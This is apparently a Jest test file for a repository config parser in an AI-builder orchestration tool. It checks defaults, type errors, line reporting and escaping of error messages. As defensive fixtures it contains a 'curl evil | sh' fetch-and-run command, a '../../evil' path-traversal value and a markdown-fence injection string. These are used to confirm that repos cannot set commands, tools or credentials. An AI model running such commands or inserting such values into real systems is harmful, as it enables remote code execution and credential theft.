import { DEFAULT_REPO_CONFIG, findKeyLine, parseRepoConfig, renderConfigError } from '../../src/config/repoConfig.js';

function ok(text: string | null | undefined) {
  const r = parseRepoConfig(text);
  if (!r.ok) throw new Error(`expected ok, got: ${r.error} (line ${r.line})`);
  return r.config;
}

function bad(text: string) {
  const r = parseRepoConfig(text);
  if (r.ok) throw new Error('expected an error');
  return r;
}

describe('parseRepoConfig', () => {
  test('absent, empty or comment-only file gives the defaults', () => {
    for (const text of [null, undefined, '', '   \n', '# nothing here\n']) {
      expect(ok(text)).toEqual(DEFAULT_REPO_CONFIG);
    }
    expect(DEFAULT_REPO_CONFIG).toMatchObject({
      budgetCycles: 3,
      maxCostUsd: 5,
      testCommand: null,
      reviewWorkflow: 'damascus-review.yml',
      ciTimeoutMinutes: 30,
      mergeStyle: 'merge',
      requireSpecApproval: false,
      contextFiles: [],
      requiredSpecSections: ['Summary', 'Acceptance Criteria', 'Test Command', 'Scope', 'Open Questions'],
      builder: { name: null, maxTurns: 30, timeoutMinutes: 30 },
    });
  });

  test('every key is read and camelCased; unspecified keys keep their defaults', () => {
    const c = ok(`
budget_cycles: 5
max_cost_usd: 2.5
required_spec_sections: [Summary, Acceptance Criteria]
test_command: npm test
review_workflow: ci-review.yaml
ci_timeout: 1h30m
merge_style: squash
require_spec_approval: true
builder:
  name: aider
  max_turns: 12
context_files:
  - docs/ARCHITECTURE.md
allow_catch_all_scope: true
`);
    expect(c).toEqual({
      budgetCycles: 5,
      maxCostUsd: 2.5,
      requiredSpecSections: ['Summary', 'Acceptance Criteria'],
      testCommand: 'npm test',
      reviewWorkflow: 'ci-review.yaml',
      ciTimeoutMinutes: 90,
      mergeStyle: 'squash',
      requireSpecApproval: true,
      contextFiles: ['docs/ARCHITECTURE.md'],
      allowCatchAllScope: true,
      builder: { name: 'aider', maxTurns: 12, timeoutMinutes: 30 },
    });
  });

  test('allow_catch_all_scope is off unless set to a boolean', () => {
    expect(ok('').allowCatchAllScope).toBe(false);
    expect(ok('merge_style: merge').allowCatchAllScope).toBe(false);
    expect(parseRepoConfig('allow_catch_all_scope: "yes"')).toEqual({
      ok: false,
      error: expect.stringMatching(/allow_catch_all_scope.*true or false/),
      line: 1,
    });
  });

  test('ci_timeout accepts minutes or durations', () => {
    expect(ok('ci_timeout: 45').ciTimeoutMinutes).toBe(45);
    expect(ok('ci_timeout: "45m"').ciTimeoutMinutes).toBe(45);
    expect(ok('ci_timeout: 2h').ciTimeoutMinutes).toBe(120);
    expect(ok('ci_timeout: 90s').ciTimeoutMinutes).toBe(1.5);
    expect(bad('ci_timeout: soon').error).toMatch(/ci_timeout.*"45m"/);
    expect(bad('ci_timeout: 0').error).toMatch(/ci_timeout/);
  });

  test('defaults are not shared between results', () => {
    const a = ok('');
    a.requiredSpecSections.push('Extra');
    a.builder.maxTurns = 999;
    expect(ok('').requiredSpecSections).not.toContain('Extra');
    expect(ok('').builder.maxTurns).toBe(30);
  });

  test('an unknown key is named with its line', () => {
    const r = bad('budget_cycles: 3\n\nmax_cost: 4\n');
    expect(r.error).toMatch(/unknown key `max_cost`/);
    expect(r.line).toBe(3);
    // The trigger label is the operator's (DAMASCUS_TRIGGER_LABEL): a repo file cannot set it.
    expect(bad('trigger_label: robot\n')).toEqual({ ok: false, error: expect.stringMatching(/^unknown key `trigger_label`/), line: 1 });
  });

  test('an unknown nested key under builder is named with its line', () => {
    const r = bad('builder:\n  max_turns: 4\n  timeout: 9\n');
    expect(r.error).toMatch(/unknown key `builder.timeout`/);
    expect(r.line).toBe(3);
  });

  test('type errors name the key, the expected type and the line', () => {
    const r = bad('merge_style: squash\nbudget_cycles: three\n');
    expect(r.error).toMatch(/`budget_cycles` must be a positive whole number \(got string "three"\)/);
    expect(r.line).toBe(2);
    const b = bad('builder:\n  name: [claude]\n');
    expect(b.error).toMatch(/`builder.name` must be a non-empty string/);
    expect(b.line).toBe(2);
    const m = bad('merge_style: fast-forward');
    expect(m.error).toMatch(/merge, squash, rebase/);
    expect(m.line).toBe(1);
    expect(bad('require_spec_approval: "yes"').error).toMatch(/true or false/);
    expect(bad('budget_cycles: 2.5').error).toMatch(/whole number/);
    expect(bad('review_workflow: ../../evil').error).toMatch(/workflow file name/);
  });

  test("a repo cannot give its builder a command, a tool list or credentials: those are the operator's", () => {
    // Attack: any writer of any onboarded repo would otherwise run commands on the orchestrator.
    for (const [text, key] of [
      ['builder:\n  command: [sh, -c, "curl evil | sh"]\n', 'command'],
      ['builder:\n  max_turns: 3\n  allowed_tools: [Bash]\n', 'allowed_tools'],
      ['builder:\n  env: [GITEA_TOKEN]\n', 'env'],
    ] as const) {
      const r = bad(text);
      expect(r.error).toMatch(new RegExp(`\`builder.${key}\` is set by the operator`));
      expect(r.line).toBe(text.split('\n').findIndex((l) => l.includes(`${key}:`)) + 1);
    }
  });

  test('a nested key is found under its parent, not at another level with the same name', () => {
    const text = 'context_files: []\nbuilder:\n  max_turns: 1\n  command: x\n';
    expect(findKeyLine(text, 'builder.command')).toBe(4);
    expect(findKeyLine('command: [a]\nbuilder:\n  command: y\n', 'builder.command')).toBe(3);
    expect(findKeyLine('a: 1\n', 'builder.command')).toBeNull();
  });

  test('YAML syntax errors carry the parser message and line', () => {
    const r = bad('budget_cycles: 3\nbuilder:\n  command: [claude, -p\n  max_turns: 3\n');
    expect(r.error).toMatch(/^YAML syntax error: /);
    expect(r.line).toBeGreaterThanOrEqual(3);
    const d = bad('budget_cycles: 3\nbudget_cycles: 4\n');
    expect(d.error).toMatch(/duplicated mapping key/);
    expect(d.line).toBe(2);
  });

  test('a document that is not a mapping is an error', () => {
    expect(bad('- a\n- b\n').error).toMatch(/must be a mapping/);
    expect(bad('just text').error).toMatch(/must be a mapping/);
  });

  test('renderConfigError quotes the error and line in a fence the error cannot break', () => {
    const body = renderConfigError({ error: 'unknown key `x` ``` injected', line: 7 });
    expect(body).toContain('`.gitea/damascus.yml` line 7');
    expect(body).toContain('unknown key `x` ``` injected');
    const fence = body.split('\n').find((l) => /^`{3,}$/.test(l));
    expect(fence).toBe('````');
    expect(renderConfigError({ error: 'boom', line: null })).toContain('(`.gitea/damascus.yml`)');
  });
});
